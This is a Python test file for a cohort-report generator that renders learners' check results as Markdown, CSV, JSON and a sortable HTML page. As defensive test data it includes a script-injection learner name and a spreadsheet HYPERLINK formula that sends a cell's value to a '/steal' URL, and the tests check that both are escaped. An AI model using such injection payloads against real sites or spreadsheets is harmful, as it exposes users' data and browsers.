"""The cohort table as a mentor reads it: cohort.md, cohort.csv, cohort.json, cohort.html."""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from checks.cohort import html_page, outputs
from checks.cohort.rows import Row
from tests.docs.browser import CHROMIUM, Chromium, Page
from tests.test_cohort_fakes import results, unchecked

SHOUTY = '<script>alert("owned")</script> & Co'  # a learner's git name is theirs to choose


def cohort() -> list[Row]:
    facts = {"repo": "expense-tracker", "graded": "2025-03-21T10:00:00+00:00"}
    return [
        Row.from_results(
            unchecked("pyproject.toml has no [tool.roadmap] | table"),
            key="/l/cy",
            learner="Cy",
            **facts,
        ),
        Row.from_results(
            results(passing=("01-cli/a",), failing=("01-cli/b", "01-cli/c")),
            key="/l/shouty",
            learner=SHOUTY,
            commit="1a2b3c4",
            date="2025-03-20",
            report="expense-tracker-0a1b2c/report.md",
            newly_passing=["01-cli/a"],
            **facts,
        ),
        Row.from_results(
            results(
                passing=("01-cli/a", "01-cli/b", "01-cli/c"),
                advisory_passing=("01-cli/tidy",),
                advisory_failing=("01-cli/code-organization",),
            ),
            key="/l/ada",
            learner="Ada",
            commit="9f8e7d6",
            date="2025-03-19",
            report="expense-tracker-d4e5f6/report.md",
            newly_passing=[],
            **facts,
        ),
    ]


def test_all_four_files_are_written_beside_each_other(tmp_path):
    written = outputs.write_all(cohort(), tmp_path / "reports", None)

    assert sorted(p.name for p in written) == [
        "cohort.csv",
        "cohort.html",
        "cohort.json",
        "cohort.md",
    ]
    rows = json.loads((tmp_path / "reports" / "cohort.json").read_text())
    assert [r["learner"] for r in rows] == ["Cy", SHOUTY, "Ada"]
    assert rows[1]["first_failing"] == "01-cli/b" and rows[1]["passing"] == ["01-cli/a"]


def test_the_markdown_table_has_a_row_per_learner_and_a_progress_column_when_compared():
    table = outputs.markdown(cohort(), "2025-03-14")
    lines = table.splitlines()

    assert lines[2] == "3 learners: 1 pass · 1 fail · 1 error"
    assert lines[4] == (
        "| learner | stage | required passing | advisory passing | status "
        "| first failing check | commit | date | report | since 2025-03-14 |"
    )
    assert lines[6].startswith(
        "| Cy | — | — | — | error | pyproject.toml has no [tool.roadmap] \\| table"
    )
    assert lines[7].endswith(
        "| 1/3 | — | fail | `01-cli/b` | `1a2b3c4` | 2025-03-20 "
        "| [report.md](expense-tracker-0a1b2c/report.md) | +1: 01-cli/a |"
    )
    assert lines[8].endswith("| complete |")
    assert "since" not in outputs.markdown(cohort(), None)


def test_advisory_results_are_in_the_learners_row_with_those_that_failed_named():
    ada = cohort()[2]

    assert (ada.advisory_passed, ada.advisory, ada.advisory_failing) == (
        1,
        2,
        ["01-cli/code-organization"],
    )
    assert "| 3/3 | 1/2 (✗ `01-cli/code-organization`) | pass |" in outputs.markdown([ada], None)
    [cells] = csv.DictReader(outputs.spreadsheet([ada]).splitlines())
    assert (cells["advisory_passed"], cells["advisory"]) == ("1", "2")
    assert cells["advisory_failing"] == "01-cli/code-organization"
    parsed = Elements()
    parsed.feed(html_page.render([ada], None))
    assert "1/2 (✗ 01-cli/code-organization)" in parsed.cells


def test_the_csv_opens_in_a_spreadsheet_with_one_row_per_learner():
    rows = list(csv.DictReader(outputs.spreadsheet(cohort()).splitlines()))

    assert [(r["learner"], r["passed"], r["required"], r["status"]) for r in rows] == [
        ("Cy", "0", "0", "error"),
        (SHOUTY, "1", "3", "fail"),
        ("Ada", "3", "3", "pass"),
    ]
    assert rows[1]["first_failing"] == "01-cli/b"
    assert rows[1]["newly_passing"] == "01-cli/a"
    assert (rows[2]["newly_passing"], rows[2]["commit"]) == ("", "9f8e7d6")


def test_a_name_that_looks_like_a_formula_stays_text_in_a_spreadsheet():
    [row] = cohort()[:1]
    formula = '=HYPERLINK("https://example.org/steal?"&A1, "click")'

    [cells] = csv.DictReader(outputs.spreadsheet([replace(row, learner=formula)]).splitlines())

    assert cells["learner"] == "'" + formula


class Elements(HTMLParser):
    """Every start tag with its attributes, the text of each table cell and of each span."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.cells: list[str] = []
        self.spans: list[tuple[str, str | None]] = []  # text, class
        self.in_cell = self.in_span = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "td":
            self.in_cell = True
            self.cells.append("")
        if tag == "span":
            self.in_span = True
            self.spans.append(("", dict(attrs).get("class")))

    def handle_endtag(self, tag: str) -> None:
        self.in_cell = self.in_cell and tag != "td"
        self.in_span = self.in_span and tag != "span"

    def handle_data(self, data: str) -> None:
        if self.in_cell:
            self.cells[-1] += data
        if self.in_span:
            text, css = self.spans[-1]
            self.spans[-1] = (text + data, css)


def test_the_html_page_is_self_contained_and_escapes_what_learners_wrote():
    page = html_page.render(cohort(), "2025-03-14")
    parsed = Elements()
    parsed.feed(page)

    assert SHOUTY in parsed.cells, "shown as text"
    assert page.count("<script>") == 1, "only our own script"
    assert not any("src" in attrs for _, attrs in parsed.tags), "nothing to fetch"
    links = [attrs["href"] for tag, attrs in parsed.tags if tag == "a"]
    assert links == ["expense-tracker-0a1b2c/report.md", "expense-tracker-d4e5f6/report.md"]
    assert not any(tag == "link" for tag, _ in parsed.tags), "no stylesheet to fetch"


def test_dates_scores_and_commits_never_wrap_and_ids_wrap_only_after_a_slash():
    parsed = Elements()
    parsed.feed(html_page.render(cohort(), "2025-03-14"))

    unbroken = [text for text, css in parsed.spans if css == "w"]
    assert {"2025-03-20", "2025-03-19", "1a2b3c4", "1/3", "3/3", "1/2"} <= set(unbroken)
    after_score = unbroken.index("1/2") + 1  # Ada's advisory cell: 1/2 (✗ 01-cli/code-org…)
    assert unbroken[after_score : after_score + 2] == ["01-cli/", "code-organization"]
    pieces_of_ids = [text for text in unbroken if "-" in text and "/" in text]
    assert pieces_of_ids and all(piece.endswith("/") for piece in pieces_of_ids)


def test_the_column_the_rows_are_sorted_by_says_so_before_any_click():
    parsed = Elements()
    parsed.feed(html_page.render(cohort(), None))

    headers = [attrs for tag, attrs in parsed.tags if tag == "th"]
    assert [h.get("aria-sort") for h in headers][:4] == [None, None, "ascending", None]
    assert sum("aria-sort" in h for h in headers) == 1
    assert 'th[aria-sort=ascending]::after { content: " ▲"; }' in html_page.STYLE


@pytest.fixture
def page(tmp_path) -> Iterator[Page]:
    if not CHROMIUM.exists():
        install = "apt-get install -y --no-install-recommends chromium"
        if os.environ.get("CI"):
            pytest.fail(f"{CHROMIUM} is missing, so cohort.html was not tested: {install}")
        pytest.skip(f"{CHROMIUM} is not installed ({install})")
    browser = Chromium(tmp_path / "chromium-profile")
    tab = browser.page()
    yield tab
    tab.close()
    browser.close()


@pytest.mark.slow
def test_clicking_a_header_sorts_the_table_by_that_column_and_again_reverses_it(tmp_path, page):
    outputs.write_all(cohort(), tmp_path, "2025-03-14")
    page.goto((tmp_path / "cohort.html").as_uri())

    def learners() -> list[str]:
        return page.evaluate(
            "[...document.querySelectorAll('tbody tr')].map(r => r.cells[0].textContent)"
        )

    assert learners() == ["Cy", SHOUTY, "Ada"], "stuck first, as written"
    page.click("th:nth-child(1)")
    assert learners() == [SHOUTY, "Ada", "Cy"]
    page.click("th:nth-child(1)")
    assert learners() == ["Cy", "Ada", SHOUTY]
    page.click("th:nth-child(3)")  # required passing: a number, and an error below zero
    assert learners() == ["Cy", SHOUTY, "Ada"]
    page.click("th:nth-child(8)")  # date
    assert learners() == ["Cy", "Ada", SHOUTY]
    assert page.evaluate("document.querySelectorAll('script').length") == 1


@pytest.mark.slow
def test_on_a_phone_nothing_breaks_mid_word_and_the_sorted_column_shows_its_arrow(tmp_path, page):
    many = [
        replace(
            row,
            learner=f"{row.learner} Wolkenstein-Rodeneck",
            message=row.message + " https://example.org/a-long/path-to/a-page",
            newly_passing=["01-cli/add-then-list-shows-the-record"] * 3,
        )
        for row in cohort()
    ]
    outputs.write_all(many, tmp_path, "2025-03-14")
    page.viewport(400, 800)
    page.goto((tmp_path / "cohort.html").as_uri())

    def arrows() -> list[str]:
        return page.evaluate(
            "[...document.querySelectorAll('th')].map(th => "
            "getComputedStyle(th, '::after').content)"
        )

    lines_per_piece = page.evaluate(
        "[...document.querySelectorAll('td .w')].map(w => [w.textContent, "
        "new Set([...w.getClientRects()].map(r => Math.round(r.top))).size])"
    )
    assert [text for text, lines in lines_per_piece if lines != 1] == []
    assert {"2025-03-20", "01-cli/", "add-then-list-shows-the-record"} <= {
        text for text, _ in lines_per_piece
    }
    wrapped = page.evaluate(
        "[...document.querySelectorAll('td')].filter(td => td.getClientRects()[0].height > 40)"
        ".length"
    )
    assert wrapped > 0, "the page is narrow enough that some cells wrap"
    assert [a for a in arrows() if a != "none"] == ['" ▲"']
    assert arrows()[2] == '" ▲"', "required passing: the stuck first"
    page.click("th:nth-child(8)")
    page.click("th:nth-child(8)")
    assert arrows()[2] == "none" and arrows()[7] == '" ▼"'
